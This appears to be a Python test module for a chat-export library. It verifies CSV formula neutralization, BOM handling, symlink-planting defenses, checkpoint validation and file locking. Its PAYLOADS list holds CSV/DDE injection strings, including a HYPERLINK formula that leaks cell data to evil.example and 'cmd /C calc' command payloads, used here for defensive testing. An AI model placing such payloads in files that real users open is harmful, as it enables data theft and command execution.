"""What the export does with files on disk: CSV cells a spreadsheet would run, the BOM,
planted symbolic links, data files no export wrote, checkpoints that do not match, and the
per-chat lock (held here by a real separate process).
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import sys
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
from export_oracles import FORMULA_STARTS, expected_csv_row

import wegly_async as wa
from wegly_async.export import CSV_COLUMNS, ChatExport, ExportResult, export_timelines
from wegly_async.testing import MockResponse, MockTransport, WeglyEmulator

TIMEOUT = 30.0  # seconds any single export or helper process in this module may take
CHAT = "5d1f0c52-8c1e-4c4e-9a53-0f6a7f3b2e10"
OTHER = "8f7a2b61-3c4d-4e5f-8a9b-1c2d3e4f5a6b"
BOM = "\ufeff".encode()

# The issue's attacks, one per dangerous first character.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
assert sorted(p[0] for p in PAYLOADS) == sorted(FORMULA_STARTS)


# --- helpers -----------------------------------------------------------------------------


def event(n: int, text: str | None, file_name: str | None = None, **message: Any) -> dict[str, Any]:
    """A document event as a server sends it, with the given text cells."""
    body: dict[str, Any] = {
        "id": f"msg-{n}",
        "type": "document",
        "origin": "INBOUND",
        "from_me": False,
        "status": "read",
        "body_text": text,
        "media": {"url": "https://cdn.example/f", "mime_type": "application/pdf"}
        | ({"file_name": file_name} if file_name is not None else {}),
        "call": None,
        "quoted_message": None,
        "reactions": [],
    }
    body.update(message)
    return {
        "id": f"evt-{n:04d}",
        "event_type": "message",
        "event_at": "2026-01-01T00:00:00Z",
        "message": body,
    }


def hostile_events() -> list[dict[str, Any]]:
    events = [event(n, payload, payload[0] + "proposta.pdf") for n, payload in enumerate(PAYLOADS)]
    events += [event(10 + n, "ok", payload) for n, payload in enumerate(PAYLOADS)]
    # Every other text cell too, and the cells that must stay as they are.
    events.append(
        event(20, "=1", "@f", id="=m", type="-t", origin="+o", status="@s")
        | {"event_type": "=e", "event_at": "-1"}
    )
    events[-1]["message"]["media"].update(url="+u", mime_type="=x")
    events.append(event(21, "olá =1+1 in the middle, 'quoted", "nome.pdf"))
    events.append(event(22, None, call={"status": "=c", "direction": "+d", "duration_ms": -5}))
    return events


def serving(
    events_by_chat: dict[str, list[dict[str, Any]]],
    on_request: Callable[[str], None] = lambda chat: None,
) -> MockTransport:
    """A transport that answers each chat's timeline (asc) from a list of events."""

    def handler(request: wa.TransportRequest) -> MockResponse:
        chat_id = request.path.split("/")[2]
        on_request(chat_id)
        events = events_by_chat[chat_id]
        skip, take = int(request.params["skip"]), int(request.params["take"])
        assert request.params["order"] == "asc"
        return MockResponse(json={"total": len(events), "records": events[skip : skip + take]})

    return MockTransport(handler)


def mock_client(transport: MockTransport) -> wa.WeglyClient:
    return wa.WeglyClient("tok-files", base_url="https://api.wegly.test", transport=transport)


async def export(client: wa.WeglyClient, chat_ids: Any, out: Path, **kwargs: Any) -> ExportResult:
    async with asyncio.timeout(TIMEOUT):
        return await export_timelines(client, chat_ids, out, **kwargs)


def read_csv_rows(path: Path, *, bom: bool = False) -> list[list[str]]:
    data = path.read_bytes()
    assert data.startswith(BOM) == bom
    text = data.decode("utf-8-sig" if bom else "utf-8")
    assert "\ufeff" not in text, "a BOM inside the file"
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    return rows[1:]


def read_jsonl(path: Path) -> list[Any]:
    return [json.loads(line) for line in path.read_bytes().splitlines()]


@pytest.fixture
async def emu() -> AsyncIterator[WeglyEmulator]:
    async with WeglyEmulator() as emulator:
        yield emulator


@pytest.fixture
async def client(emu: WeglyEmulator) -> AsyncIterator[wa.WeglyClient]:
    async with emu.client() as c:
        yield c


def timeline_gets(emu: WeglyEmulator) -> list[Any]:
    return [r for r in emu.requests if r.method == "GET" and r.path.endswith("/timeline")]


# --- CSV cells a spreadsheet would run ---------------------------------------------------


async def test_csv_neutralizes_every_formula_start_in_every_text_cell(tmp_path: Path) -> None:
    events = hostile_events()
    transport = serving({CHAT: events})
    async with mock_client(transport) as client:
        result = await export(client, [CHAT], tmp_path, format="csv", take=4)
    assert result.ok, result.chats[0].error
    rows = read_csv_rows(tmp_path / f"{CHAT}.csv")
    assert rows == [expected_csv_row(e, neutralize=True) for e in events]
    body, file_name = CSV_COLUMNS.index("body_text"), CSV_COLUMNS.index("media_file_name")
    for n, payload in enumerate(PAYLOADS):
        assert rows[n][body] == "'" + payload
        assert rows[n][file_name] == "'" + payload[0] + "proposta.pdf"
        assert rows[len(PAYLOADS) + n][file_name] == "'" + payload
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows[:-1] for cell in row)
    assert rows[-2][body] == "olá =1+1 in the middle, 'quoted"
    # A number is a number, not text a spreadsheet would run: it is kept.
    assert rows[-1][CSV_COLUMNS.index("call_duration_ms")] == "-5"
    assert rows[-1][CSV_COLUMNS.index("call_status")] == "'=c"


async def test_csv_formulas_raw_keeps_every_cell_as_sent(tmp_path: Path) -> None:
    events = hostile_events()
    async with mock_client(serving({CHAT: events})) as client:
        result = await export(client, [CHAT], tmp_path, format="csv", csv_formulas="raw")
    assert result.ok
    rows = read_csv_rows(tmp_path / f"{CHAT}.csv")
    assert rows == [expected_csv_row(e) for e in events]
    assert [row[CSV_COLUMNS.index("body_text")] for row in rows[: len(PAYLOADS)]] == PAYLOADS


@pytest.mark.parametrize("csv_formulas", ["neutralize", "raw"])
async def test_jsonl_keeps_the_server_records_in_both_modes(
    tmp_path: Path, csv_formulas: str
) -> None:
    events = hostile_events()
    async with mock_client(serving({CHAT: events})) as client:
        result = await export(client, [CHAT], tmp_path, csv_formulas=csv_formulas, csv_bom=True)
    assert result.ok
    data = (tmp_path / f"{CHAT}.jsonl").read_bytes()
    assert not data.startswith(BOM)
    assert read_jsonl(tmp_path / f"{CHAT}.jsonl") == events


@pytest.mark.parametrize(
    ("kwargs", "error"),
    [
        ({"csv_formulas": "escape"}, ValueError),
        ({"csv_formulas": None}, ValueError),
        ({"csv_bom": "yes"}, TypeError),
        ({"csv_bom": 1}, TypeError),
    ],
)
async def test_bad_csv_options_are_refused_before_any_request(
    tmp_path: Path, kwargs: dict[str, Any], error: type[Exception]
) -> None:
    transport = serving({CHAT: []})
    async with mock_client(transport) as client:
        with pytest.raises(error):
            await export(client, [CHAT], tmp_path, format="csv", **kwargs)
    assert transport.requests == []


@pytest.mark.parametrize(
    "second", [{"csv_formulas": "raw"}, {"csv_bom": True}], ids=["formulas", "bom"]
)
async def test_a_csv_export_resumed_with_other_csv_options_is_refused(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path, second: dict[str, Any]
) -> None:
    chat_id = emu.create_chat(events=40, seed=301)
    assert (await export(client, [chat_id], tmp_path, format="csv", take=25)).ok
    before = (tmp_path / f"{chat_id}.csv").read_bytes()
    emu.requests.clear()
    with pytest.raises(ValueError, match="csv_formulas=neutralize csv_bom=False; rerun with"):
        await export(client, [chat_id], tmp_path, format="csv", take=25, **second)
    assert timeline_gets(emu) == []
    assert (tmp_path / f"{chat_id}.csv").read_bytes() == before


# --- the BOM -----------------------------------------------------------------------------


async def test_csv_bom_starts_the_file_once_and_survives_a_resume(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path
) -> None:
    chat_id = emu.create_chat(events=0)
    for n in range(60):
        emu.add_message(chat_id, f"ação nº {n}")
    first = await export(client, [chat_id], tmp_path, format="csv", csv_bom=True, take=25)
    assert first.ok
    for n in range(60, 90):
        emu.add_message(chat_id, f"ação nº {n}")
    again = await export(client, [chat_id], tmp_path, format="csv", csv_bom=True, take=25)
    assert again.ok and again.written == 30
    rows = read_csv_rows(tmp_path / f"{chat_id}.csv", bom=True)
    assert [row[CSV_COLUMNS.index("body_text")] for row in rows] == [
        f"ação nº {n}" for n in range(90)
    ]


async def test_csv_has_no_bom_by_default(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path
) -> None:
    chat_id = emu.create_chat(events=5, seed=302)
    assert (await export(client, [chat_id], tmp_path, format="csv")).ok
    assert len(read_csv_rows(tmp_path / f"{chat_id}.csv", bom=False)) == 5


# --- planted symbolic links --------------------------------------------------------------


def untouched(victim: Path) -> bool:
    return victim.read_bytes() == b"precious data\n" and not victim.is_symlink()


@pytest.fixture
def victim(tmp_path: Path) -> Path:
    path = tmp_path / "victim.txt"
    path.write_bytes(b"precious data\n")
    return path


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
async def test_a_data_file_planted_as_a_link_is_refused_and_the_victim_is_untouched(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path, victim: Path, fmt: str
) -> None:
    chat_id = emu.create_chat(events=30, seed=303)
    out = tmp_path / "out"
    out.mkdir()
    (out / f"{chat_id}.{fmt}").symlink_to(victim)
    with pytest.raises(ValueError, match="is a symbolic link"):
        await export(client, [chat_id], out, format=fmt)
    assert timeline_gets(emu) == []
    assert untouched(victim)


@pytest.mark.parametrize("name", ["json", "lock"])
async def test_a_checkpoint_or_lock_planted_as_a_link_is_refused(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path, victim: Path, name: str
) -> None:
    chat_id = emu.create_chat(events=30, seed=304)
    out = tmp_path / "out"
    (out / ".checkpoints").mkdir(parents=True)
    (out / ".checkpoints" / f"{chat_id}.{name}").symlink_to(victim)
    dangling = out / ".checkpoints" / f"{OTHER}.{name}"
    dangling.symlink_to(tmp_path / "would-be-created")
    with pytest.raises(ValueError, match="symbolic link"):
        await export(client, [chat_id], out)
    with pytest.raises(ValueError, match="symbolic link"):
        await export(client, [OTHER], out)
    assert untouched(victim)
    assert not (tmp_path / "would-be-created").exists()
    assert timeline_gets(emu) == []


async def test_a_checkpoint_folder_planted_as_a_link_is_refused(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path
) -> None:
    chat_id = emu.create_chat(events=30, seed=305)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    out.mkdir()
    (out / ".checkpoints").symlink_to(elsewhere)
    with pytest.raises(ValueError, match="symbolic link"):
        await export(client, [chat_id], out)
    assert list(elsewhere.iterdir()) == []


async def test_a_checkpoint_folder_swapped_for_a_link_mid_run_is_not_followed(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path
) -> None:
    chat_id = emu.create_chat(events=200, seed=314)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    out = tmp_path / "out"
    folder, moved = out / ".checkpoints", out / ".checkpoints-moved"

    class SwapAfterTwoPages:
        pages = 0

        def chat_started(self, chat_id: str, *, events: int, total: int) -> None:
            pass

        def chat_advanced(self, chat_id: str, *, written: int, events: int, total: int) -> None:
            self.pages += 1
            if self.pages == 2:
                folder.rename(moved)
                folder.symlink_to(elsewhere)

        def chat_finished(self, result: ChatExport) -> None:
            pass

    result = await export(client, [chat_id], out, take=25, progress=SwapAfterTwoPages())
    assert result.ok, result.chats[0].error
    assert list(elsewhere.iterdir()) == []
    # Every later checkpoint went to the folder the export opened, wherever it was moved.
    saved = json.loads((moved / f"{chat_id}.json").read_bytes())
    assert saved["events"] == 200


async def test_temporary_checkpoints_planted_as_links_before_and_during_a_run_are_not_followed(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path, victim: Path
) -> None:
    chat_id = emu.create_chat(events=200, seed=306)
    folder = tmp_path / ".checkpoints"
    folder.mkdir()
    tmp = folder / f"{chat_id}.json.tmp"
    tmp.symlink_to(victim)
    planted: list[int] = []

    class PlantEveryPage:
        def chat_started(self, chat_id: str, *, events: int, total: int) -> None:
            pass

        def chat_advanced(self, chat_id: str, *, written: int, events: int, total: int) -> None:
            # Between two commits, as another user of a shared folder could.
            tmp.symlink_to(victim)
            planted.append(events)

        def chat_finished(self, result: ChatExport) -> None:
            pass

    result = await export(client, [chat_id], tmp_path, take=25, progress=PlantEveryPage())
    assert result.ok, result.chats[0].error
    assert len(planted) >= 8, "links were planted between the commits"
    assert untouched(victim)
    assert [r["id"] for r in read_jsonl(tmp_path / f"{chat_id}.jsonl")] == [
        e["id"] for e in emu.events(chat_id)
    ]


async def test_a_data_file_linked_after_the_checks_is_not_followed(
    tmp_path: Path, victim: Path
) -> None:
    """A link planted after the checks, before the file is opened, fails that chat only."""
    events = [event(n, f"texto {n}") for n in range(30)]

    def plant(chat_id: str) -> None:
        data = tmp_path / f"{chat_id}.jsonl"
        if chat_id == OTHER and not data.is_symlink():
            data.symlink_to(victim)

    async with mock_client(serving({CHAT: events, OTHER: events}, plant)) as client:
        result = await export(client, [CHAT, OTHER], tmp_path, take=10, concurrency=1)
    assert result.chats[0].ok
    failed = result.chats[1]
    assert isinstance(failed.error, OSError) and failed.written == 0
    assert untouched(victim)
    assert read_jsonl(tmp_path / f"{CHAT}.jsonl") == events


# --- data files no export wrote ----------------------------------------------------------


@pytest.mark.parametrize("fmt", ["jsonl", "csv"])
async def test_a_data_file_without_a_checkpoint_is_refused_before_any_request(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path, fmt: str
) -> None:
    chat_id = emu.create_chat(events=30, seed=307)
    data = tmp_path / f"{chat_id}.{fmt}"
    data.write_bytes(b"my own notes\n")
    with pytest.raises(ValueError, match="exists and was not written by an export") as caught:
        await export(client, [chat_id], tmp_path, format=fmt)
    assert "remove it or pick another output directory" in str(caught.value)
    assert str(data) in str(caught.value)
    assert timeline_gets(emu) == []
    assert data.read_bytes() == b"my own notes\n"


async def test_an_empty_data_file_without_a_checkpoint_is_taken_over(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path
) -> None:
    chat_id = emu.create_chat(events=30, seed=308)
    (tmp_path / f"{chat_id}.jsonl").write_bytes(b"")
    assert (await export(client, [chat_id], tmp_path)).ok
    assert read_jsonl(tmp_path / f"{chat_id}.jsonl") == emu.events(chat_id)


# --- checkpoints that do not match -------------------------------------------------------


def _json(mutate: Callable[[dict[str, Any]], Any]) -> Callable[[bytes], bytes]:
    def apply(raw: bytes) -> bytes:
        data = json.loads(raw)
        result = mutate(data)
        return json.dumps(data if result is None else result).encode()

    return apply


def _set(path: str, value: Any) -> Callable[[bytes], bytes]:
    def mutate(data: dict[str, Any]) -> None:
        *parents, key = path.split(".")
        target = data
        for parent in parents:
            target = target[parent]
        target[key] = value(target[key]) if callable(value) else value

    return _json(mutate)


def _raw_number(path: str, digits: str) -> Callable[[bytes], bytes]:
    def apply(raw: bytes) -> bytes:
        key = path.split(".")[-1]
        data = json.loads(raw)
        target = data["cursor"] if path.startswith("cursor.") else data
        marker = f'"{key}": {target[key]}'
        text = json.dumps(data)
        assert marker in text
        return text.replace(marker, f'"{key}": {digits}').encode()

    return apply


CHECKPOINT_DAMAGE: dict[str, Callable[[bytes], bytes]] = {
    "empty-list": lambda raw: b"[]",
    "null": lambda raw: b"null",
    "not-json": lambda raw: b"{not json",
    "truncated": lambda raw: raw[: len(raw) // 2],
    "not-utf8": lambda raw: b"\xff\xfe" + raw,
    "nested-deep": lambda raw: b"[" * 100_000 + b"]" * 100_000,
    "two-mebibytes": lambda raw: raw[:-1] + b" " * (2 << 20) + b"}",
    "only-a-version": lambda raw: b'{"version": 3}',
    "older-version": _set("version", 2),
    "another-chat": _set("chat_id", OTHER),
    "size-beyond-the-file": _set("size", lambda size: size + 10_000),
    "size-not-at-a-line-end": _set("size", lambda size: size - 7),
    "size-30-digits": _raw_number("size", "123456789012345678901234567890"),
    "skip-30-digits": _raw_number("cursor.skip", "123456789012345678901234567890"),
    "size-negative": _set("size", -1),
    "size-float": _set("size", lambda size: size + 0.5),
    "events-as-text": _set("events", lambda events: str(events)),
    "events-true": _set("events", True),
    "events-one-more": _set("events", lambda events: events + 1),
    "offset-moved": _set("cursor.skip", lambda skip: skip + 25),
    "offset-back": _set("cursor.skip", lambda skip: skip - 25),
    "total-changed": _set("cursor.total", lambda total: total + 1),
    "another-event": _set("cursor.event_id", "evt-someone-else"),
    "recent-ids-not-a-list": _set("cursor.recent_ids", "abc"),
    "recent-ids-numbers": _set("cursor.recent_ids", lambda ids: [1, 2, 3]),
    "recent-ids-reordered": _set("cursor.recent_ids", lambda ids: ids[::-1]),
    "no-cursor": _set("cursor", None),
    "cursor-list": _set("cursor", []),
    "extra-field": _set("extra", 1),
    "seal-changed": _set("check", lambda check: "0" * 64),
    "format-xml": _set("format", "xml"),
    "bom-on-jsonl": _set("csv_bom", True),
}


async def crash_midway(client: wa.WeglyClient, chat_id: str, out: Path) -> None:
    """Stop an export after three pages, leaving a checkpoint with a cursor."""

    class Crash(Exception):
        pass

    class CrashAfterThree:
        pages = 0

        def chat_started(self, chat_id: str, *, events: int, total: int) -> None:
            pass

        def chat_advanced(self, chat_id: str, *, written: int, events: int, total: int) -> None:
            self.pages += 1
            if self.pages == 3:
                raise Crash

        def chat_finished(self, result: ChatExport) -> None:
            pass

    crashed = False
    try:
        await export(client, [chat_id], out, take=25, progress=CrashAfterThree())
    except* Crash:
        crashed = True
    assert crashed, "the export did not crash"


@pytest.mark.parametrize("damage", list(CHECKPOINT_DAMAGE))
async def test_a_checkpoint_that_does_not_match_is_a_usage_error_saying_how_to_recover(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path, damage: str
) -> None:
    chat_id = emu.create_chat(events=200, seed=309)
    await crash_midway(client, chat_id, tmp_path)
    data = tmp_path / f"{chat_id}.jsonl"
    checkpoint = tmp_path / ".checkpoints" / f"{chat_id}.json"
    assert json.loads(checkpoint.read_bytes())["cursor"] is not None
    checkpoint.write_bytes(CHECKPOINT_DAMAGE[damage](checkpoint.read_bytes()))
    before = data.read_bytes()

    # A transport of its own: the crashed export's last requests may still reach the emulator.
    transport = serving({})
    async with mock_client(transport) as refused:
        with pytest.raises(ValueError, match="cannot resume from") as caught:
            await export(refused, [chat_id], tmp_path, take=25)
    message = str(caught.value)
    assert f"cannot resume from {checkpoint}" in message
    assert message.endswith(f"delete it and {data} to export the chat again")
    assert transport.requests == []
    assert data.read_bytes() == before
    # Doing what it says gives exactly the chat.
    checkpoint.unlink()
    data.unlink()
    assert (await export(client, [chat_id], tmp_path, take=25)).ok
    assert read_jsonl(data) == emu.events(chat_id)


@pytest.mark.parametrize("edit", ["line-changed", "line-dropped-and-size-fixed"])
async def test_a_data_file_edited_under_its_checkpoint_is_refused(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path, edit: str
) -> None:
    chat_id = emu.create_chat(events=200, seed=310)
    await crash_midway(client, chat_id, tmp_path)
    data = tmp_path / f"{chat_id}.jsonl"
    checkpoint = tmp_path / ".checkpoints" / f"{chat_id}.json"
    lines = data.read_bytes().splitlines(keepends=True)
    saved = json.loads(checkpoint.read_bytes())
    if edit == "line-changed":
        lines[5] = lines[5].replace(b'"id":"', b'"id":"X', 1)[: len(lines[5]) - 1] + b"\n"
    else:
        # One event fewer, with the size and event count moved to match.
        gone = lines.pop(5)
        saved["size"] -= len(gone)
        saved["events"] -= 1
        checkpoint.write_text(json.dumps(saved))
    data.write_bytes(b"".join(lines))
    with pytest.raises(ValueError, match="does not describe"):
        await export(client, [chat_id], tmp_path, take=25)


def test_checkpoint_damage_covers_the_issue_list() -> None:
    for case in ("empty-list", "null", "another-chat", "size-beyond-the-file"):
        assert case in CHECKPOINT_DAMAGE
    assert {"size-not-at-a-line-end", "offset-moved", "size-30-digits"} <= set(CHECKPOINT_DAMAGE)


# --- one writer per chat -----------------------------------------------------------------

HOLD_LOCK = (
    "import fcntl, os, sys\n"
    "fd = os.open(sys.argv[1], os.O_RDWR | os.O_CREAT)\n"
    "fcntl.flock(fd, fcntl.LOCK_EX)\n"
    "print('locked', flush=True)\n"
    "sys.stdin.read()\n"
)


async def hold_lock(path: Path) -> asyncio.subprocess.Process:
    """Start a separate process that holds ``path``'s lock until its stdin is closed."""
    proc = await asyncio.create_subprocess_exec(
        sys.executable,
        "-c",
        HOLD_LOCK,
        str(path),
        stdin=asyncio.subprocess.PIPE,
        stdout=asyncio.subprocess.PIPE,
    )
    assert proc.stdout is not None
    async with asyncio.timeout(TIMEOUT):
        assert await proc.stdout.readline() == b"locked\n"
    return proc


async def release(proc: asyncio.subprocess.Process) -> None:
    assert proc.stdin is not None
    proc.stdin.close()
    async with asyncio.timeout(TIMEOUT):
        assert await proc.wait() == 0


async def test_a_chat_locked_by_another_process_fails_fast_and_the_others_go_on(
    emu: WeglyEmulator, client: wa.WeglyClient, tmp_path: Path
) -> None:
    locked = emu.create_chat(events=120, seed=311)
    free = emu.create_chat(events=120, seed=312)
    (tmp_path / ".checkpoints").mkdir()
    lock = tmp_path / ".checkpoints" / f"{locked}.lock"
    holder = await hold_lock(lock)
    try:
        result = await export(client, [locked, free], tmp_path, take=50)
    finally:
        await release(holder)
    first, second = result.chats
    assert isinstance(first.error, wa.ExportLockedError)
    assert str(lock) in str(first.error) and locked in str(first.error)
    assert (first.written, first.events) == (0, 0)
    assert not (tmp_path / f"{locked}.jsonl").exists()
    assert not [r for r in timeline_gets(emu) if locked in r.path], "a locked chat was read"
    assert second.ok
    assert read_jsonl(tmp_path / f"{free}.jsonl") == emu.events(free)
    # Once the other process let go, the chat exports.
    again = await export(client, [locked, free], tmp_path, take=50)
    assert again.ok
    assert read_jsonl(tmp_path / f"{locked}.jsonl") == emu.events(locked)


async def test_two_exports_of_one_chat_in_one_process_do_not_both_write(tmp_path: Path) -> None:
    # Latency: the first export holds the chat for 40 pages (0.4 s at least), far longer
    # than the second takes to reach the lock.
    async with WeglyEmulator(latency=0.01) as emu, emu.client() as a, emu.client() as b:
        chat_id = emu.create_chat(events=1000, seed=313)
        first, second = await asyncio.gather(
            export(a, [chat_id], tmp_path, take=25), export(b, [chat_id], tmp_path, take=25)
        )
    outcomes = sorted([first.chats[0].ok, second.chats[0].ok])
    assert outcomes == [False, True]
    loser = first if not first.ok else second
    assert isinstance(loser.chats[0].error, wa.ExportLockedError)
    assert read_jsonl(tmp_path / f"{chat_id}.jsonl") == emu.events(chat_id)
    assert (tmp_path / ".checkpoints" / f"{chat_id}.lock").is_file()
